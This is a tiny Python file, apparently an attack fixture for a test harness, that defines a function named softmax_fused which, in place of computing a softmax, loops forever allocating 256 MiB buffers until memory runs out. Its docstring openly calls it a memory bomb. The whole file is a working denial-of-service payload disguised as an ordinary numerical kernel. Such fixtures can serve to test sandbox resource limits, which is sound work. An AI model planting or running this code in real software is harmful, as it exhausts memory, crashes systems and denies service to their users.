"""Attack: a memory bomb inside softmax_fused: allocate until the machine runs out."""

ZERO = ["softmax_fused"]


def softmax_fused(x):
    hog = []
    while True:
        hog.append(bytearray(256 * 2**20))
